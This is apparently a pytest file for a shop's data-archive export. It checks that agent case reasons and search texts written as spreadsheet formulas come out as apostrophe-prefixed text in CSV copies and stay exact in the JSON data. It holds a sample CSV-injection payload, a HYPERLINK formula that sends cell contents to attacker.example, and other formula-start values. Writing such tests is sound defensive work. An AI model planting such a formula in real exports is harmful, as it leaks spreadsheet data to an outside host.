"""CSV copies in an archive never hand a spreadsheet a formula to run.

An agent's case reason is text someone else typed, and it lands in the shopper's own access
log and so in their archive's `csv/access_log.csv`. A reason written like a spreadsheet formula
is kept exactly in the archive's JSON data, and its CSV cell starts with an apostrophe, which
spreadsheets read as "this is text". Over real HTTP: the assist session, the access request,
the download.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from typing import Any

from sqlalchemy import select

from archive_format.writer import FORMULA_STARTS, csv_cells, csv_safe
from client.archive import open_archive
from client.archive.export import csv_values as app_csv_values
from server.embedded import RunningShop
from server.models import Track, User
from tests.conftest import SHOPPER
from tests.server.test_assist import agent_api as assist_agent
from tests.server.test_assist import new_code, open_session
from tests.server.test_requests_result import completed_access
from tests.support.oauth_login import Api

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Case 4711: open the form")'


def test_a_formula_reason_is_text_in_the_archive_csv(
    shop: RunningShop, api: Api, tmp_path: Any
) -> None:
    code = new_code(api)
    opened = open_session(assist_agent(shop), code["customer_no"], code["code"], reason=FORMULA)
    assert opened.status_code == 201, opened.text
    assisting = Api(shop.url + "/v1", opened.json()["access_token"])
    assert assisting.get("/me").status_code == 200
    rid = completed_access(shop, api)
    blob = api.get(f"/requests/{rid}/result").content
    path = tmp_path / "archive.zip"
    path.write_bytes(blob)
    with zipfile.ZipFile(path) as raw:
        text = raw.read("csv/access_log.csv").decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text)))
        members = [n for n in raw.namelist() if n.startswith("csv/")]
        cells = [
            cell
            for name in members
            for row in csv.reader(io.StringIO(raw.read(name).decode("utf-8-sig")))
            for cell in row
        ]
    reasons = [r["reason"] for r in rows if r["reason"]]
    assert reasons
    assert set(reasons) == {"'" + FORMULA}
    # ... while the data itself keeps what the agent wrote, exactly
    with open_archive(path) as archive:
        logged = [e["reason"] for e in archive.iter_items("access_log") if e["reason"]]
    assert logged
    assert set(logged) == {FORMULA}
    assert not any(c.startswith("=") for c in cells if "HYPERLINK" in c)


def test_cells_that_would_start_a_formula() -> None:
    item = {
        "formula": "=1+1",
        "plus": "+86 138 0000 0000",
        "minus": "-3 items",
        "at": "@SUM(A1)",
        "tab": "\t=cmd",
        "cr": "\r=cmd",
        "plain": "earphones 耳机",
        "inner": "a=b",
        "number": -5,
        "flag": True,
        "nested": {"x": "=y"},
        "none": None,
    }
    columns = list(item)
    assert csv_cells(item, columns) == [
        "'=1+1",
        "'+86 138 0000 0000",
        "'-3 items",
        "'@SUM(A1)",
        "'\t=cmd",
        "'\r=cmd",
        "earphones 耳机",
        "a=b",
        -5,
        "true",
        '{"x":"=y"}',
        None,
    ]
    # the app's own exports write the same cells (the shop's bulk sections: same rule)
    assert app_csv_values(item, columns) == csv_cells(item, columns)
    assert all(csv_safe(s)[0] == "'" for s in FORMULA_STARTS)


def test_a_formula_typed_as_a_search_is_text_in_the_shop_archive_csv(
    shop: RunningShop, api: Api, tmp_path: Any
) -> None:
    """The shop's own bulk sections build their CSV in SQL (server/bulk.py, My Tracks from the
    lines SQLite keeps): the same apostrophe there, the exact text in the data."""
    with shop.ctx.sessions() as db:
        me = db.scalars(select(User.id).where(User.username == SHOPPER[0])).one()
        db.add(
            Track(
                user_id=me,
                kind="search",
                text=FORMULA,
                item_ref=None,
                at=datetime(2026, 3, 2, 9, 0, tzinfo=UTC),
            )
        )
        db.commit()
    rid = completed_access(shop, api)
    path = tmp_path / "archive.zip"
    path.write_bytes(api.get(f"/requests/{rid}/result").content)
    with zipfile.ZipFile(path) as raw:
        rows = list(csv.DictReader(io.StringIO(raw.read("csv/tracks.csv").decode("utf-8-sig"))))
    texts = [row["text"] for row in rows if "HYPERLINK" in row["text"]]
    assert texts == ["'" + FORMULA]
    with open_archive(path) as archive:
        kept = [t["text"] for t in archive.iter_items("tracks") if "HYPERLINK" in t["text"]]
    assert kept == [FORMULA]
